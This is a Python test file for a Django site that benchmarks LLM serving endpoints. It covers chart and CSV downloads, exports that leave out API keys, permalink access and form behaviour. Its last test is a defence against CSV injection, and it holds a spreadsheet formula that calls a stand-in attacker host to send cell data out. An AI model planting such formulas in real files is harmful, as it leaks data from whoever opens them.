"""The run page's charts, downloads and permalinks."""
import csv
import io
import json
import re

import pytest
from django.urls import reverse
from django.utils import timezone

from benchmarks import services
from factories import endpoint, gpu_samples, measured_run, user

pytestmark = pytest.mark.django_db

GPU = gpu_samples(peak_mib=6000.0, process_mib={4242: 5800.0})


def chart(client, run, name, fmt="json", **params):
    url = reverse("run-chart", args=[run.public_id, name, fmt])
    return client.get(url, params)


def test_every_chart_answers_json_and_csv_logged_out(client):
    run = measured_run([endpoint(name="llama", backend="llamacpp")], gpu=GPU, server=True)
    for name in ("throughput", "ttft", "tpot", "e2e", "timeline", "gpu", "server"):
        r = chart(client, run, name)
        assert r.status_code == 200, name
        fig = r.json()
        assert fig["data"] and fig["table"]["rows"], name
        rows = list(csv.reader(io.StringIO(chart(client, run, name, "csv").content.decode())))
        assert rows[0] == fig["table"]["columns"] and len(rows) == len(fig["table"]["rows"]) + 1


def test_distribution_chart_values_come_from_the_stored_requests(client):
    run = measured_run([endpoint()], levels=(1,), requests=10)
    fig = chart(client, run, "ttft").json()
    level = run.levels.get()
    box, p50 = fig["data"][0], fig["data"][1]
    assert len(box["x"]) == 10 and p50["name"] == "p50"
    assert p50["x"][0] == pytest.approx(level.summary["ttft_ms"]["p50"], abs=1e-3)


def test_the_timeline_level_is_chosen_by_parameter(client):
    run = measured_run([endpoint()], levels=(1, 8))
    level8 = run.levels.get(concurrency=8)
    assert "8 concurrent" in chart(client, run, "timeline", level=level8.public_id).json()["layout"]["title"]["text"]


def test_an_unknown_chart_is_404(client):
    run = measured_run([endpoint()], levels=(1,), requests=2)
    assert chart(client, run, "pie").status_code == 404


def test_the_run_page_offers_every_chart_the_chart_endpoint_draws(client):
    run = measured_run([endpoint()], levels=(1, 2), requests=4, gpu=GPU, server=True)
    page = client.get(run.get_absolute_url()).content.decode()
    offered = re.findall(r'<section class="chart-box" id="chart-([^"]+)"', page)
    assert offered == ["throughput", "energy", "ttft", "tpot", "e2e", "timeline", "gpu", "server"]
    for name in offered:
        assert reverse("run-chart", args=[run.public_id, name, "json"]) in page
        assert chart(client, run, name).status_code == 200, name


@pytest.mark.parametrize("fmt", ["xml", "JSON", "csv2", "html"])
def test_a_chart_comes_only_as_json_or_csv(client, fmt):
    run = measured_run([endpoint()], levels=(1,), requests=2)
    comparison = services.comparison_create(owner=None, runs=[run], reports=[])
    for url in (reverse("run-chart", args=[run.public_id, "throughput", fmt]),
                reverse("comparison-chart", args=[comparison.public_id, fmt])):
        r = client.get(url)
        assert r.status_code == 404 and "Charts come as .json or .csv." in r.content.decode(), url


def test_the_run_page_offers_charts_downloads_and_a_copy_link(client):
    run = measured_run([endpoint()], gpu=GPU)
    page = client.get(run.get_absolute_url()).content.decode()
    # Plotly from our own static files; "cdn" looked for where a script or style is loaded from,
    # not in the page's random permalink ids (one held "cdn" by chance on a CI run)
    sources = re.findall(r'(?:src|href)="([^"]*)"', page)
    assert "/static/plotly/plotly.min.js" in sources and not any("cdn" in u.lower() for u in sources)
    assert 'data-copy="permalink"' in page and run.public_id in page
    assert reverse("run-export", args=[run.public_id]) in page and 'id="chart-gpu"' in page
    assert 'id="chart-server"' not in page  # nothing scraped, no empty chart
    assert "GPU 0 pid 4242: 5.66" in page  # peak memory per process


def test_the_export_has_config_levels_requests_and_no_secrets(client):
    e = endpoint(api_key="sk-secret-xyz")
    run = measured_run([e], levels=(1,), requests=3)
    r = client.get(reverse("run-export", args=[run.public_id]))
    assert "attachment" in r["Content-Disposition"]
    text = r.content.decode()
    assert "sk-secret-xyz" not in text
    data = json.loads(text)
    assert data["format"] == "v100site-run" and data["workload"]["prompt_tokens"] == 512
    assert len(data["levels"][0]["requests"]) == 3 and len(data["levels"][0]["requests"][0]["chunk_times"]) == 20


def test_the_requests_csv_has_one_row_per_request_with_the_metric_values(client):
    run = measured_run([endpoint()], levels=(1, 8), requests=5)
    rows = list(csv.DictReader(io.StringIO(client.get(reverse("run-requests-csv", args=[run.public_id])).content.decode())))
    assert len(rows) == 10
    # One time origin, the level's start, said in every time column's header; units in the headers.
    for row in rows:
        sent, first, end = (float(row[f"{what} (s from the level start)"]) for what in ("sent", "first content", "end"))
        assert 0 <= sent < first < end
        assert float(row["TTFT (ms)"]) == pytest.approx((first - sent) * 1000, rel=1e-3, abs=1e-3)
        assert float(row["E2E latency (ms)"]) == pytest.approx((end - sent) * 1000, rel=1e-3, abs=1e-3)
    assert any(float(r["sent (s from the level start)"]) > 0.01 for r in rows)  # not all sent at once


def test_permalinks_can_require_login(client, settings):
    run = measured_run([endpoint()], levels=(1,), requests=2)
    settings.PERMALINKS_REQUIRE_LOGIN = True
    assert client.get(run.get_absolute_url()).status_code == 302
    assert chart(client, run, "throughput").status_code == 302
    client.force_login(user())
    assert client.get(run.get_absolute_url()).status_code == 200


def test_an_untitled_run_is_named_by_what_it_measured_and_when(client):
    run = measured_run([endpoint(name="llama-q4"), endpoint(name="vllm-fp8", url="http://127.0.0.1:8")],
                       levels=(1, 8), requests=3)
    page = client.get(run.get_absolute_url()).content.decode()
    name = f"llama-q4, vllm-fp8 at c=1,8 · {timezone.localtime(run.created):%Y-%m-%d %H:%M}"
    assert f"<h1>{name}</h1>" in page
    assert f"run {run.public_id[:8]}" not in page
    client.force_login(user())
    assert name in client.get(reverse("run-list")).content.decode()


def test_the_run_page_shows_the_hosts_load_beside_the_clients_lag(client):
    run = measured_run([endpoint()], levels=(1,), requests=3)
    level = run.levels.get()
    assert level.client["host_cpus"] >= 1 and level.client["host_cpu_busy_percent"] is not None
    page = client.get(run.get_absolute_url()).content.decode()
    cell = re.search(r'<td class="host-load">(.*?)</td>', page, re.S).group(1)
    assert re.search(r"\d+\.\d on \d+ CPUs /\s+\d+ % /\s+\d+ %", cell), cell


def test_every_page_has_a_favicon_and_favicon_ico_leads_to_it(client):
    page = client.get(reverse("login")).content.decode()
    icon = re.search(r'<link rel="icon" href="([^"]+)"', page).group(1)
    assert icon.endswith("favicon.svg")
    r = client.get("/favicon.ico")
    assert r.status_code == 301 and r["Location"] == icon
    assert b"<svg" in b"".join(client.get(icon).streaming_content)


def test_the_queued_banner_shows_only_while_the_run_is_queued(client):
    from benchmarks.models import Run

    e = endpoint()
    client.force_login(user())
    r = client.post(reverse("run-new"), {"endpoints": [e.id], "prompt_tokens": 16, "output_tokens": 4,
                                         "temperature": 0, "api": "completions", "load_mode": "concurrency",
                                         "concurrency_levels": "1", "requests_per_level": 1, "warmup_requests": 0,
                                         "arrivals": "poisson", "quality_ctx": 512, "quality_chunks": 8})
    run = Run.objects.get()
    assert r.status_code == 302
    assert 'id="queued-banner"' in client.get(run.get_absolute_url()).content.decode()
    Run.objects.filter(id=run.id).update(status=Run.RUNNING)
    page = client.get(run.get_absolute_url()).content.decode()
    assert "queued-banner" not in page and "Run queued" not in page


def test_server_configuration_reads_as_words_not_python_values(client):
    run = measured_run([endpoint()], levels=(1,), requests=2)
    e = run.endpoints.get()
    run.server_config = {str(e.id): {"slots": {"count": 4, "n_ctx": 1024}, "notes": [], "ready": True,
                                     "models": [{"id": "m", "max_model_len": 4096}], "props": {"raw": 1}}}
    run.save(update_fields=["server_config"])
    page = client.get(run.get_absolute_url()).content.decode()
    section = page[page.index('id="server-config"'):]
    section = section[:section.index("</table>")]
    assert "count 4, n_ctx 1024" in section and "<dd>none</dd>" in section and "<dd>yes</dd>" in section
    assert "id m, max_model_len 4096" in section
    assert "{" not in section and "[]" not in section and "True" not in section and "raw" not in section


def test_the_runs_list_shows_the_published_reference_and_imports(client):
    services.published_reports_load()
    client.force_login(user())
    page = client.get(reverse("run-list")).content.decode()
    assert 'id="reports"' in page and "published, not measured here" in page
    assert reverse("import-new") in page


def test_the_run_form_shows_only_the_chosen_load_modes_fields(client):
    client.force_login(user())
    page = client.get(reverse("run-new")).content.decode()
    assert re.search(r'id="field-concurrency_levels" data-load-mode="concurrency conversation">', page)
    for name in ("arrivals", "max_concurrency"):  # also the SLO search by rate's
        assert re.search(rf'id="field-{name}" data-load-mode="rate slo_rate" hidden>', page), name
    assert re.search(r'id="field-search_min_rate" data-load-mode="slo_rate" hidden>', page)
    assert re.search(r'id="field-request_rates" data-load-mode="rate" data-arrivals="poisson constant gamma ramp" '
                     r'hidden>', page)
    assert re.search(r'id="field-conversation_turns" data-load-mode="conversation" hidden>', page)
    page = client.post(reverse("run-new"), {"load_mode": "rate", "request_rates": "1,1"}).content.decode()
    assert re.search(r'id="field-concurrency_levels" data-load-mode="concurrency conversation" hidden>', page)
    assert re.search(r'id="field-request_rates" data-load-mode="rate" data-arrivals="[^"]*">', page)
    # Of the arrivals' own fields only the chosen kind's show: Poisson has none.
    for name in ("burstiness", "ramp_to", "trace_file", "trace_speedups"):
        assert re.search(rf'id="field-{name}" data-load-mode="rate( slo_rate)?" data-arrivals="[^"]*" hidden>',
                         page), name
    page = client.post(reverse("run-new"), {"load_mode": "rate", "arrivals": "trace"}).content.decode()
    assert re.search(r'id="field-trace_file" data-load-mode="rate" data-arrivals="trace">', page)
    assert re.search(r'id="field-request_rates" data-load-mode="rate" data-arrivals="[^"]*" hidden>', page)


def test_no_csv_cell_can_start_a_spreadsheet_formula(client):
    """A name chosen to be read as a formula (CSV injection) is written as text, in every CSV a
    logged-out reader can download; numbers stay numbers."""
    evil = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
    run = measured_run([endpoint(name=evil)], levels=(1,), requests=2)
    downloads = [client.get(reverse("run-requests-csv", args=[run.public_id])),
                 chart(client, run, "throughput", fmt="csv"), chart(client, run, "ttft", fmt="csv")]
    for r in downloads:
        assert r.status_code == 200
        rows = list(csv.reader(io.StringIO(r.content.decode())))
        cells = [c for row in rows for c in row]
        assert any(c.startswith("'" + evil) for c in cells), rows[:3]
        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], rows[:3]
    # A negative number is still written as a number (and read back as one).
    from benchmarks import csv_cells
    out = io.StringIO()
    csv_cells.writer(out).writerow([-1.5, "-1.5", "@sum", "plain"])
    assert out.getvalue().strip() == "-1.5,'-1.5,'@sum,plain"
